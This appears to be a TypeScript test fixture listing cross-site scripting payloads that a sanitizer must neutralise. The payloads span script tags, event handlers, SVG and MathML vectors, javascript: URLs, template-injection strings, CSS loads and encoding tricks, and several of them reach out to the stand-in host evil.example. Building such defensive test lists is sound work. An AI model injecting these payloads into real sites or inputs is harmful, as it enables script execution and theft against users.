/** Nothing may come of any of these: no dialog, no request to `evil.example`, no element. */
const act = 'alert(7741)';
const site = '//evil.example/7741';

const elements = [
  `<script>${act}</script>`,
  `<script src="${site}.js"></script>`,
  `<SCRIPT SRC=https:${site}></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script type="module">${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCg3NzQxKTwvc2NyaXB0Pg==">`,
  `<base href="https:${site}/">`,
  `<meta http-equiv="refresh" content="0;url=https:${site}">`,
  `<link rel="stylesheet" href="${site}.css">`,
  `<form action="https:${site}"><button autofocus>Enter</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<plaintext>the rest of the page`,
];

const handlers = [
  `<img src=x onerror=${act}>`,
  `<img src="x" onerror="${act}"//`,
  `<IMG """><SCRIPT>${act}</SCRIPT>">`,
  `<img/src=x/onerror=${act}>`,
  `<img src=x:x onerror\n=\n${act}>`,
  `<body onload=${act}>`,
  `<video><source onerror="${act}"></video>`,
  `<audio src=x onerror=${act}>`,
  `<details open ontoggle=${act}>more</details>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`,
  `<marquee onstart=${act}>run</marquee>`,
  `<a onmouseover="${act}">over</a>`,
  `<div style="animation-name:x" onanimationstart="${act}"></div>`,
  `" onmouseover="${act}" x="`,
  `' autofocus onfocus='${act}`,
  `x" style="position:fixed;inset:0" onclick="${act}`,
];

const drawings = [
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text y="20">press</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<math href="javascript:${act}">press</math>`,
];

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}//`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  `[press](javascript:${act})`,
  `<javascript:${act}>`,
  `data:text/html,<script>${act}</script>`,
  `vbscript:msgbox(7741)`,
  `https://example.org/"onmouseover="${act}`,
  `https://example.org/<script>${act}</script>`,
  `http://javascript:${act}@evil.example/`,
  `![picture](https:${site}.png)`,
  `blob:https:${site}`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `{"__html":"<img src=x onerror=${act}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${act}"}}}`,
  `__proto__[innerHTML]=<img src=x onerror=${act}>`,
];

const styles = [
  `<style>@import '${site}.css';*{background:url(${site})}</style>`,
  `<p style="background:url(https:${site})">seen</p>`,
  `;}body{display:none}`,
  `expression(${act})`,
];

const codes = [
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;img src=x onerror=${act}&#62;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}`,
  `＜script＞${act}＜/script＞`,
  `\u202e>tpircs/<)1477(trela>tpircs<`,
  `<\u200bscript>${act}</script>`,
  `\u2028<script>${act}</script>\u2029`,
  `اضغط <script>${act}</script> هنا`,
  `\ud800<img src=x onerror=${act}>`,
  `\`\`\`\n</code></pre><script>${act}</script>\n\`\`\``,
  `**<b onclick=${act}>bold</b>** *<i>x</i>* \`<script>${act}</script>\``,
  `@Ada <script>${act}</script> @<img/src/onerror=${act}>`,
  `${'<b>'.repeat(300)}<script>${act}</script>`,
  `${'W'.repeat(2000)}<img src=x onerror=${act}>`,
];

/** What makes a page that takes texts for markup do something, one of a kind. */
export const hostileMarkup: readonly string[] = [
  ...elements,
  ...handlers,
  ...drawings,
  ...addresses,
  ...templates,
  ...styles,
  ...codes,
];
